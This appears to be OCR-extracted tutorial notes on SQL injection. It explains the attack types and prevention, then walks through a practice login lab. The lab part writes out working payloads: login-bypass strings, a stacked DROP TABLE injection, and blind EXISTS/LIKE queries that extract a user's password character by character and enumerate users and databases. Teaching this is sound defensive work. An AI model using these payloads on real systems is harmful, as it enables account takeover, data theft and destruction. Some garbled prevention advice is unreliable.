SQL Injection

What is SQL Injection?

SQL injection (SQLi) is an application security weakness that allows attackers to control an application’s database – letting them access or delete data, change an application’s data-driven behavior, and do other undesirable things – by tricking the application into sending unexpected SQL commands. SQL injections are among the most frequent threats to data security.username: jsmith

password: demo1234

  • Say someone figures out a persons username. Someone can put a ' after the username which is telling the system that we have ended the user input, then you can put a SQL comment character -- (dash dash) after the ' and what this does is comment out everything after this command sequence after the username, and something that is commonly after a username is a password check and by doing so bypasses the password allowing access to a users account.


4 Most Common Types of SQL Injections

  • In-band SQL Injection (SQLi)

    • Error-based SQL Injection:

      • Cause:

        • Relies on error messages thrown by the database server to obtain information about the structure of the database.

    • UNION-based SQL Injection:

      • Cause:

        • Using UNION SQL operator to combine the results of two or more SELECT statements into a single result, which is then returned as part of the HTTP response.• Inferential SQL Injection (Blind SQLi)

    • Boolean-based SQL Injection:

      • Cause: When an application is forced to return a different result depending on whether the query returns a TRUE or FALSE result. Based on the result, the content within the HTTP response will change, or remain the same.

    • Time-based SQL Injection:

      • Cause:

        • When sending an SQL query to the database, which forces the database to wait for a specified amount of time (in seconds) before responding. The time website takes to respond will indicate to the attacker whether the result of the query is TRUE or FALSE.

Prevent or Mitigate SQL Injection Attacks

  1. Use parameterized queries: (think "variables") Parameterized queries force the developer to first define all the SQL code, and then pass in each parameter to the query later. This coding style allows the database to distinguish between code and data, regardless of what user input is supplied.

  2. Trust no-one: Assume all user-submitted data is trying to attack you. Apply input validations such as mysql_real_escape_string () to make sure that any malicious characters haven't passed to a SQL query through data. Than sanitize each data by filtering user data by context. For instance, email addresses must be filtered to enable only the characters allowed in email addresses or cell phone numbers must be filtered to allow for only the digits enabled in a phone number and so forth.

  3. Don't use dynamic SQL when it can be avoided: Frequently, the data sanitization techniques could fail, so apply prepared statements, stored procedures or parameterized queries whenever you can. But, consider the fact that while stored procedures restrict some SQLi types, they slip to guard vs. many others, so don’t depend only on their use for yourprotection.

  4. Update and patch: Vulnerabilities in databases and apps that fraudsters can take advantage of have commonly identified, so it's crucial to use patches and updates whenever possible.

  5. Firewall: Consider a Web Application Firewall (WAF) – whether softer or appliance-based is an excellent solution to filter out malicious data. A firewall can be especially useful to serve some security protection versus a new vulnerability before a patch is available.

  6. Reduce your attack surface: Get rid of anydatabase functionality that you don't need to prevent a hacker taking advantage of it.

  7. Apply sufficient privileges: Avoid connecting your database through an account with admin-level privileges except you have some strong reason. Using a restricted account is a safer option, and can reduce an attacker malicious executes.

  8. Limited error message: Assume that your application is not secure and act accordingly by encrypting or hashing passwords and other confidential data including connection strings so attackers can't figure out your database architecture through error messages, make sure that they only provide minimal info.

  9. Permanently maintain SQL statements from database-connected apps: This will provide to detect fake SQL vulnerabilities and comments. Supervising tools that exploit computer learning or behavioral analyses can be beneficial.

  10. Don't forget the basics: Change the passwords ofapplication accounts into the database regularly. This is common sense, but in practice these passwords often stay unchanged for months or even years.

  11. Use better software: Make coders responsible for checking the code and for fixing security flaws in custom applications before the software is delivered.

consider that we have a query, that is searching for the entered word in the database table:

select * from notes nt where nt.subject = ‘search_word‘;

Therefore instead of the search word, if we enter a SQL Injection query ‘ or 1=1;–, then the query will become always true.

select * from notes nt where nt.subject = ‘ ‘ or 1=1;–

In this case, the parameter “subject“ is closed with the quote and then we have code or 1=1, which makes a query always true. With the sign “–“ we comment the rest ofthe query code, which will not be executed. It is one of the most popular and easiest ways to start controlling the query.

  • ‘ or ‘abc‘=‘abc‘;–

  • ‘ or ‘ ‘=‘ ‘;–

The most important part here is that after comma sign we can enter any malicious code, that we would like to be executed.

Login Page

If the application has a login page, it is possible that the application uses a dynamic SQL such as the statement below. This statement is expected to return at least a single row with the user details from the Users table as the result set when there is a row with the username and password entered in the SQL statement.

SELECT * FROM Users WHERE User_Name = ‘” & strUserName & “‘ AND Password = ‘” & strPassword & “’;”

If the tester would enter John’; DROP table users_details;’—as strUserName and anything as strPassword, the SQL statement would become like the one below.

SELECT * FROM Users WHERE User_Name = ‘John’; DROP table users_details;’ –‘ AND Password = ‘Smith';

To gain access and find a user name. Enter the string as both user name and password in the frame on the right. This should get you logged in as a user (jake happens to be the first user in the table). This tells you that Jake is a user and it allows you to access his account - but it does not tell you his password.

Find out if Jake's password includes the letter "w". Enter xxx as user name and enter the following string as the password:

' OR EXISTS(SELECT * FROM users WHERE name='jake' AND password LIKE '%w%') AND ''='

Find out if Jake's password has "w" as the third letter. Enter xxx as username and enter the following string as the password:

' OR EXISTS(SELECT * FROM users WHERE name='jake' AND password LIKE '__w%') AND ''='

Force an Error

If you enter a string with a single quote in it such as O'Brien for either user name or password you will get a Software Error as the SQL is invalid and cannot beparsed.

Force Entry

If you enter the string ' OR ''=' as both user name and password you can ensure that the WHERE clause always returns true. Without knowing any user names or passwords you can by-pass the log in screen. In this example you get the user name of the first person in the table.

The magic string works because it program evaluates:

SELECT name from users WHERE name='name' AND password='password'

as the 'always true' string:

SELECT name from users WHERE name='' OR ''='' AND password='' OR ''=''

Find a password using SQL Injection

You can now get the system to answer questions about the password table. It will only ever answer yes (and let you in) or no (by refusingentry). Your questions must take the form of a valid SQL query. In each case use a xx for the user name and the text shown as password. You can ask questions such as:Does jake's password have a w in it?

' OR EXISTS(SELECT * FROM usersWHERE name='jake' AND password LIKE '%w%') AND ''='Does jake's password start with w?' OR EXISTS(SELECT * FROM users WHERE name='jake' AND password LIKE 'w%') AND ''='Does jake's password have an w followed by d?' OR EXISTS(SELECT * FROM users WHERE name='jake' AND password LIKE '%w%d%') AND ''='Is the fourth letter of jake's password w?' OR EXISTS(SELECT * FROM users WHERE name='jake' AND password LIKE '___w%') AND ''='

This works because the LIKE command uses % and _ as wildcards. The % wildcard matches any string, the _ wildcard matches a single character.

Find a user names using SQL Injection Work space:

Are there more than 10 rows in the password table?' OR (SELECT COUNT(*) FROM users)>10 AND ''='

Is there a user with an r in his name?' OR EXISTS(SELECT * FROM users WHERE name LIKE '%r%') AND ''='

Is there a user (other than jake) with an ain his name?' OR EXISTS(SELECT * FROM users WHERE name!='jake' AND name LIKE '%a%') AND ''='

Find Table Names using SQL Injection Work space:

You need to find out the name ofthe database that you are using. The function DATABASE() will give you that value (but you have to guess at it as before). When you knowthe name of the database beingused you can take guesses at the names of the tables.

Does the current database contain the letter j?

' OR EXISTS(SELECT 1 FROM dual WHERE database() LIKE '%j%') AND ''='

Is there a table called one in database test?


Is there more than one table in the database(s)containing a j?


Last updated